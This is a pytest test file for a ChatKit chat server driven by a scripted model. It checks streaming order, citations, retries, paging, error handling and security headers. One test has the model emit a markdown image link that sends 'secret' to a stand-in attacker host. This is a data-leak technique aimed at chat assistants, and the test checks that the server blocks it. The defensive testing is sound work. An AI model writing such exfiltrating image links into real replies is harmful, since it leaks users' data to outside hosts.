"""The ChatKit protocol, from outside: real server, real SDKs, real store; the model is scripted."""

import json
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from chatkeep.testing import Fault, Gate, Reply, ScriptedModelServer

Event = dict[str, Any]


def operation(kind: str, /, **params: Any) -> dict[str, Any]:
    return {"type": kind, "params": params}


def message(text: str) -> dict[str, Any]:
    content = [{"type": "input_text", "text": text}]
    return {"content": content, "attachments": [], "quoted_text": "", "inference_options": {}}


def call(client: httpx.Client, kind: str, /, **params: Any) -> Any:
    reply = client.post("/chatkit", json=operation(kind, **params))
    reply.raise_for_status()
    return reply.json()


def stream(client: httpx.Client, kind: str, /, **params: Any) -> Iterator[Event]:
    with client.stream("POST", "/chatkit", json=operation(kind, **params)) as reply:
        assert reply.status_code == 200
        assert reply.headers["content-type"].startswith("text/event-stream")
        for line in reply.iter_lines():
            if line.startswith("data: "):
                yield json.loads(line.removeprefix("data: "))


def ask(client: httpx.Client, text: str, thread_id: str | None = None) -> list[Event]:
    if thread_id is None:
        return list(stream(client, "threads.create", input=message(text)))
    return list(stream(client, "threads.add_user_message", thread_id=thread_id, input=message(text)))


def thread_of(events: list[Event]) -> str:
    thread_id = events[0]["thread"]["id"]
    assert isinstance(thread_id, str)
    return thread_id


def answer_of(events: list[Event]) -> Event:
    items = [event["item"] for event in events if event["type"] == "thread.item.done"]
    return next(item for item in items if item["type"] == "assistant_message")


def test_a_question_is_answered_in_the_protocols_order(
    client: httpx.Client, model: ScriptedModelServer
) -> None:
    model.script(Reply("A berth costs 3.20 euros a metre [1]."))
    events = ask(client, "What does a visitor's berth cost?")
    kinds = [event["type"] for event in events]
    assert kinds[:3] == ["thread.created", "thread.item.done", "stream_options"]
    assert kinds.index("progress_update") < kinds.index("thread.item.added")
    assert events[0]["thread"]["title"] == "What does a visitor's berth cost?"
    assert answer_of(events)["content"][0]["text"] == "A berth costs 3.20 euros a metre."


def test_a_citation_leads_to_its_passage_in_its_document(
    client: httpx.Client, model: ScriptedModelServer
) -> None:
    model.script(Reply("Only within two hours of high water [1]."))
    (cited,) = answer_of(ask(client, "When may I cross the bar?"))["content"][0]["annotations"]
    assert cited["index"] == len("Only within two hours of high water")
    assert cited["source"]["title"] == "Tides and the bar"
    assert cited["source"]["attribution"] == "tides.html"
    page = client.get(cited["source"]["url"])
    passage = page.text.split('id="passage"')[1].split("</section>")[0]
    assert "two hours of high water" in passage


def test_the_passages_reach_the_model_as_data(client: httpx.Client, model: ScriptedModelServer) -> None:
    model.script(Reply("In Saltby [1]."))
    ask(client, "Where can I buy petrol?")
    assert "the nearest pump is in Saltby" in json.dumps(model.requests[-1].json)


def test_two_turns_in_one_thread_have_items_of_their_own(
    client: httpx.Client, model: ScriptedModelServer
) -> None:
    model.script(Reply("Channel 12."), Reply("On 127 degrees."))
    thread = thread_of(ask(client, "Which channel?"))
    ask(client, "And the leading lights?", thread)
    items = call(client, "threads.get_by_id", thread_id=thread)["items"]["data"]
    texts = [item["content"][0]["text"] for item in items]
    assert texts == ["Which channel?", "Channel 12.", "And the leading lights?", "On 127 degrees."]
    assert len({item["id"] for item in items}) == 4
    sent = json.dumps(model.requests[-1].json)
    assert "Channel 12." in sent
    assert "__fake_id__" not in json.dumps(items)


def test_images_of_other_hosts_are_not_to_be_shown(client: httpx.Client, model: ScriptedModelServer) -> None:
    model.script(Reply("![secret](https://evil.example/?q=secret)"))
    events = ask(client, "Show me")
    stored = call(client, "threads.get_by_id", thread_id=thread_of(events))
    assert events[0]["thread"]["allowed_image_domains"] == []
    assert stored["allowed_image_domains"] == []


def test_times_are_utc(client: httpx.Client, model: ScriptedModelServer) -> None:
    model.script(Reply("Yes."))
    events = ask(client, "Is it?")
    assert events[0]["thread"]["created_at"].endswith("Z")
    assert answer_of(events)["created_at"].endswith("Z")


def test_a_model_that_fails_in_mid_stream_keeps_what_it_said(
    client: httpx.Client, model: ScriptedModelServer
) -> None:
    model.script(Reply("Blue hoses are for drinking water.", fail=Fault.cut(after=3)))
    events = ask(client, "Which hoses?")
    assert events[-1]["type"] == "error" or events[-2]["type"] == "error"
    error = next(event for event in events if event["type"] == "error")
    assert error["allow_retry"] is True
    assert error["message"]
    kept = answer_of(events)["content"][0]["text"]
    assert kept
    assert "Blue hoses are for drinking water.".startswith(kept)
    stored = call(client, "threads.get_by_id", thread_id=thread_of(events))["items"]["data"]
    assert stored[-1]["content"][0]["text"] == kept


def test_retry_replaces_the_answer(client: httpx.Client, model: ScriptedModelServer) -> None:
    model.script(
        Reply(fail=Fault.http(500, "boom")), Reply(fail=Fault.http(500)), Reply(fail=Fault.http(500))
    )
    events = ask(client, "Is diesel sold?")
    assert any(event["type"] == "error" for event in events)
    thread, question = thread_of(events), events[1]["item"]["id"]
    model.script(Reply("Yes, from 08:00 to 18:00."))
    again = list(stream(client, "threads.retry_after_item", thread_id=thread, item_id=question))
    assert answer_of(again)["content"][0]["text"] == "Yes, from 08:00 to 18:00."
    items = call(client, "threads.get_by_id", thread_id=thread)["items"]["data"]
    assert [item["type"] for item in items] == ["user_message", "assistant_message"]


def test_a_reader_who_hangs_up_stops_the_model_and_what_was_said_is_kept(
    client: httpx.Client, model: ScriptedModelServer
) -> None:
    gate = Gate()
    model.script(Reply("one two three four five", gate=gate))
    gate.step(2)
    thread = ""
    for event in stream(client, "threads.create", input=message("Count")):
        thread = event["thread"]["id"] if event["type"] == "thread.created" else thread
        if event["type"] == "thread.item.updated" and event["update"].get("delta"):
            break
    deadline = time.monotonic() + 10
    items: list[Event] = []
    while time.monotonic() < deadline and len(items) < 2:
        items = call(client, "threads.get_by_id", thread_id=thread)["items"]["data"]
    gate.open()
    assert [item["type"] for item in items] == ["user_message", "assistant_message"]
    assert "one" in items[1]["content"][0]["text"]
    assert "five" not in items[1]["content"][0]["text"]


def test_threads_are_listed_newest_first_renamed_and_deleted(
    client: httpx.Client, model: ScriptedModelServer
) -> None:
    model.script(Reply("a"), Reply("b"))
    first, second = thread_of(ask(client, "First question")), thread_of(ask(client, "Second question"))
    listed = call(client, "threads.list", limit=9999, order="desc")["data"]
    assert [thread["id"] for thread in listed[:2]] == [second, first]
    assert [thread["title"] for thread in listed[:2]] == ["Second question", "First question"]
    assert call(client, "threads.update", thread_id=first, title="Renamed")["title"] == "Renamed"
    assert call(client, "threads.delete", thread_id=first) == {}
    gone = client.post("/chatkit", json=operation("threads.get_by_id", thread_id=first))
    assert gone.status_code == 404


def test_items_are_paged_newest_first(client: httpx.Client, model: ScriptedModelServer) -> None:
    model.script(Reply("a"))
    thread = thread_of(ask(client, "Question"))
    page = call(client, "items.list", thread_id=thread, limit=1, order="desc")
    assert page["data"][0]["type"] == "assistant_message"
    assert page["has_more"] is True
    rest = call(client, "items.list", thread_id=thread, limit=5, order="desc", after=page["after"])
    assert [item["type"] for item in rest["data"]] == ["user_message"]
    assert rest["has_more"] is False


def test_feedback_is_taken(client: httpx.Client, model: ScriptedModelServer) -> None:
    model.script(Reply("a"))
    events = ask(client, "Question")
    item = answer_of(events)["id"]
    thread = thread_of(events)
    assert call(client, "items.feedback", thread_id=thread, item_ids=[item], kind="positive") == {}


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        (b"{not json", 400, "malformed_input"),
        (b'{"type": "threads.explode", "params": {}}', 422, "invalid_input"),
        (b'{"params": {}}', 422, "invalid_input"),
        (b'{"type": "threads.list"}', 422, "invalid_input"),
        (b'{"type": "threads.list", "params": {"limit": "many"}}', 422, "invalid_input"),
        (b'{"type": "threads.get_by_id", "params": {"thread_id": "thr_none"}}', 404, "not_found"),
        (b'{"type": "items.list", "params": {"thread_id": "thr_none"}}', 404, "not_found"),
        (b'{"type": "threads.delete", "params": {"thread_id": "thr_none"}}', 404, "not_found"),
        (
            b'{"type": "input.transcribe", "params": {"audio_base64": "", "mime_type": "a/b"}}',
            422,
            "invalid_input",
        ),
        (
            b'{"type": "attachments.create", "params": {"name": "a", "size": 1, "mime_type": "a/b"}}',
            422,
            "invalid_input",
        ),
        (b"[" * 100_000, 400, "malformed_input"),
        (b"\xff\xfe", 400, "malformed_input"),
    ],
)
def test_a_bad_request_is_refused_with_a_reason(
    client: httpx.Client, body: bytes, status: int, code: str
) -> None:
    reply = client.post("/chatkit", content=body, headers={"Content-Type": "application/json"})
    assert reply.status_code == status, reply.text
    error = reply.json()
    assert error["code"] == code
    assert error["message"]
    assert error["request_id"] == reply.headers["x-request-id"]


@pytest.mark.parametrize(
    ("kind", "params"),
    [
        ("threads.add_user_message", {"thread_id": "thr_none", "input": message("Hi")}),
        ("threads.retry_after_item", {"thread_id": "thr_none", "item_id": "msg_none"}),
        ("threads.add_client_tool_output", {"thread_id": "thr_none", "result": {}}),
    ],
)
def test_a_stream_about_a_missing_thread_is_404_not_an_empty_200(
    client: httpx.Client, kind: str, params: dict[str, Any]
) -> None:
    assert client.post("/chatkit", json=operation(kind, **params)).status_code == 404


def test_retrying_what_is_no_question_is_refused_and_deletes_nothing(
    client: httpx.Client, model: ScriptedModelServer
) -> None:
    model.script(Reply("a"))
    events = ask(client, "Question")
    thread, answer = thread_of(events), answer_of(events)["id"]
    refused = client.post(
        "/chatkit", json=operation("threads.retry_after_item", thread_id=thread, item_id=answer)
    )
    unknown = client.post(
        "/chatkit", json=operation("threads.retry_after_item", thread_id=thread, item_id="msg_x")
    )
    assert (refused.status_code, unknown.status_code) == (409, 404)
    assert len(call(client, "threads.get_by_id", thread_id=thread)["items"]["data"]) == 2


def test_an_empty_message_is_refused(client: httpx.Client) -> None:
    reply = client.post("/chatkit", json=operation("threads.create", input=message(" \n ")))
    assert reply.status_code == 422


def test_a_body_over_the_limit_is_refused_declared_or_not(client: httpx.Client) -> None:
    big = b"x" * 1_100_000
    headers = {"Content-Type": "application/json"}
    declared = client.post("/chatkit", content=big, headers=headers)
    chunked = client.post("/chatkit", content=iter([big[:600_000], big[600_000:]]), headers=headers)
    assert (declared.status_code, chunked.status_code) == (413, 413)
    assert "CHATKEEP_MAX_BODY_BYTES" in declared.json()["message"]


def test_another_content_type_is_refused(client: httpx.Client) -> None:
    reply = client.post("/chatkit", content=b"{}", headers={"Content-Type": "text/plain"})
    assert reply.status_code == 415


def test_another_host_name_is_refused(client: httpx.Client) -> None:
    reply = client.get("/health", headers={"Host": "evil.example"})
    assert reply.status_code == 421
    assert "CHATKEEP_ALLOWED_HOSTS" in reply.json()["message"]


@pytest.mark.parametrize(
    ("origin", "allowed"), [("https://docs.example.com", True), ("https://evil.example", False)]
)
def test_only_the_named_origins_may_call_from_their_pages(
    client: httpx.Client, origin: str, allowed: bool
) -> None:
    asking = {
        "Origin": origin,
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "content-type",
    }
    reply = client.options("/chatkit", headers=asking)
    assert (reply.headers.get("access-control-allow-origin") == origin) is allowed


def test_health_and_readiness(client: httpx.Client) -> None:
    assert client.get("/health").json() == {"status": "ok"}
    ask_until = time.monotonic() + 20
    while client.get("/ready").status_code == 503 and time.monotonic() < ask_until:
        pass
    assert client.get("/ready").json()["status"] == "ready"


def test_pages_carry_a_strict_policy(client: httpx.Client) -> None:
    for path in ("/", "/chatkit.js", "/page.json", "/sources/none"):
        headers = client.get(path).headers
        assert "script-src 'self'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"


def test_a_source_that_is_gone_gets_a_page_that_says_so(client: httpx.Client) -> None:
    page = client.get("/sources/00000000-0000-0000-0000-000000000000")
    assert page.status_code == 404
    assert "no longer here" in page.text
